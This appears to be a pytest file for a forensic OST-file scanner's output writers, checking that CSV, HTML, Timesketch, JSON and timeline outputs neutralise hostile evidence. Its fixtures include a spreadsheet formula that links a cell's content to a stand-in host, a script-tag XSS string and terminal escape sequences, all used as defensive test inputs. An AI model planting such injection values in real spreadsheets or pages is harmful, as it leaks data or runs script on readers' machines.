"""Outputs: CSV cells a spreadsheet will not run, self-contained escaped HTML, Timesketch lines."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re

import pytest

from scanner.audit.events import SyncSession
from scanner.correlate.auditside import build_audit_side
from scanner.correlate.engine import CorrelateOptions, correlate
from scanner.correlate.marking import build_marks
from scanner.correlate.model import CorrelationResult
from scanner.correlate.outputs import safe_cell, short_path, write_result
from scanner.correlate.rules import default_rules_dir, load_rules
from scanner.records import (
    FolderRecord,
    HostContext,
    ScanReport,
    StoreFile,
    StoreIdentity,
    TargetInfo,
)

UTC = dt.timezone.utc
CREATED = dt.datetime(2025, 4, 2, 8, 0, tzinfo=UTC)
DB = "11111111-2222-3333-4444-555555555555"
EVIL_FOLDER = '=HYPERLINK("http://x.example/?"&A1,"open")'
SCRIPT_FOLDER = "<script>alert(1)</script>"
HOST = "WS-<b>01</b>"


def _result() -> CorrelationResult:
    folders = [FolderRecord(path=f"/IPM_SUBTREE/{EVIL_FOLDER}", name=EVIL_FOLDER, local_id=1,
                            item_count=7, replica_id=1, global_counter=0x10C, id_scope="server",
                            database_guid=DB),
               FolderRecord(path=f"/IPM_SUBTREE/{SCRIPT_FOLDER}", name=SCRIPT_FOLDER,
                            local_id=2, item_count=3, replica_id=1, global_counter=0x200,
                            id_scope="server", database_guid=DB)]
    store = StoreFile(path="C:/Users/a/AppData/Local/Microsoft/Outlook/a@contoso.example.ost",
                      profile_user="a", found_by="deep", created=CREATED,
                      modified=CREATED + dt.timedelta(hours=3), kind="ost",
                      store=StoreIdentity(database_guid=DB, root_created=CREATED),
                      folders=folders)
    report = ScanReport(started=CREATED + dt.timedelta(days=2), finished=None,
                        target=TargetInfo("collection", "/c", "c"),
                        host=HostContext(name=HOST, os=None, boot_time=None), files=[store])
    session = SyncSession(
        session_key="sess-1", key_source="session_id", user="a@contoso.example",
        mailbox_upn="a@contoso.example", first=CREATED + dt.timedelta(minutes=1),
        last=CREATED + dt.timedelta(minutes=9), event_count=2,
        folder_keys=[f"{DB}:0x10C", f"{DB}:0x200"], folder_paths=[], client_ips=["203.0.113.5"],
        client_versions=[], client_infos=["Client=MSExchangeRPC"], provider_uids=[],
        database_guids=[DB], leaves_ost=True)
    return correlate([("r1", report)], build_audit_side([session]),
                     load_rules([default_rules_dir()]), build_marks(sessions=["sess-1"]),
                     CorrelateOptions(timelines=True))


def _written(fmt: str) -> str:
    stream = io.StringIO()
    write_result(_result(), fmt, stream)
    return stream.getvalue()


@pytest.mark.parametrize(("value", "expected"), [
    ("=SUM(A1)", "'=SUM(A1)"), ("+1", "'+1"), ("-2", "'-2"), ("@cmd", "'@cmd"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("Inbox", "Inbox"), (None, ""), (3, "3"),
])
def test_safe_cell(value: object, expected: str) -> None:
    assert safe_cell(value) == expected


def test_csv_has_no_formula_cells() -> None:
    rows = list(csv.reader(io.StringIO(_written("csv"))))

    header, [row] = rows[0], rows[1:]
    assert header[0] == "schema_version" and row[0] == "1.0"
    record = dict(zip(header, row, strict=True))
    assert record["verdict"] == "match"
    assert record["exposed_items"] == "10"
    assert EVIL_FOLDER in record["exposed_folders"]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_html_is_self_contained_and_escaped() -> None:
    html = _written("html")

    assert '<meta name="ostscan-schema-version" content="1.0">' in html
    assert "<script" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "WS-&lt;b&gt;01&lt;/b&gt;" in html
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", html)
    assert "<svg" in html and html.count("<circle") == 2     # two Sync events
    assert "OST created" in html and "Exposure" in html


def test_timesketch_lines_have_the_required_fields() -> None:
    lines = [json.loads(line) for line in _written("timesketch").splitlines()]

    assert lines
    for line in lines:
        assert {"message", "datetime", "timestamp_desc", "schema_version"} <= line.keys()
    descs = {line["timestamp_desc"] for line in lines}
    assert {"OST Created", "OST Last Write", "First Sync", "Last Sync"} <= descs
    created = next(line for line in lines if line["timestamp_desc"] == "OST Created")
    assert created["datetime"] == "2025-04-02T08:00:00Z"


def test_jsonl_uses_ecs_names() -> None:
    finding = json.loads(_written("jsonl").splitlines()[0])

    assert finding["host.name"] == HOST
    assert finding["event.kind"] == "alert"
    assert finding["source.ip"] == ["203.0.113.5"]
    assert finding["rule.id"] == "match-created-by-session"
    assert finding["user.email"] == "a@contoso.example"
    assert finding["schema_version"] == "1.0"


def test_json_document_carries_schema_version() -> None:
    document = json.loads(_written("json"))

    assert document["schema_version"] == "1.0"
    assert document["document"] == "ostscan.correlation"
    assert document["summary"]["verdicts"] == {"match": 1}


def test_table_names_the_verdict_and_the_conclusion() -> None:
    table = _written("table")

    assert table.splitlines()[0].split()[:3] == ["VERDICT", "CONF", "HOST"]
    assert "match" in table.splitlines()[1]
    assert "[held-by-collected-devices]" in table


def test_a_timeline_keeps_the_session_readable_when_a_copy_was_written_years_later() -> None:
    from scanner.correlate.html import timeline_svg
    from scanner.correlate.model import Timeline, TimelineMark

    first = dt.datetime(2024, 3, 14, 2, 37, 51, tzinfo=dt.timezone.utc)
    syncs = [TimelineMark(first + dt.timedelta(seconds=20 * n), "0x10C", "sync")
             for n in range(4)]
    later = dt.datetime(2026, 12, 3, 18, 2, 22, tzinfo=dt.timezone.utc)
    host = [TimelineMark(first, "created", "ost-created"),
            TimelineMark(later, "last write", "ost-last-write")]
    svg = timeline_svg(Timeline("s1", "jdoe@contoso.example", syncs,
                                {"SRV-FILE01: C:/Users/x/jdoe.ost": host}))

    assert "2024-03-14T02:37:51Z</text>" in svg and "2024-03-14T02:38:51Z</text>" in svg
    assert "2026-12-03</tspan>" in svg          # drawn at the edge, with its date
    assert "SRV-FILE01: jdoe.ost" in svg


def test_a_long_ost_path_keeps_its_host_tree_and_its_file_name() -> None:
    path = "SRV-FILE01/Users/Administrator/AppData/Local/Microsoft/Outlook/jdoe@contoso.example.ost"

    assert short_path(path, 40) == "SRV-FILE01/…ook/jdoe@contoso.example.ost"
    assert short_path("C:/x.ost", 40) == "C:/x.ost"
    assert short_path(path.partition("/")[2], 40).startswith("…")
    assert short_path("A" * 30 + "/" + "b" * 30, 40).startswith("…")


def test_control_characters_from_evidence_are_written_as_escapes() -> None:
    from scanner.correlate.outputs import printable

    assert printable("jdoe\x1b[2K\rFAKE.ost") == "jdoe\\x1b[2K\\x0dFAKE.ost"
    assert printable("plain text, é") == "plain text, é"
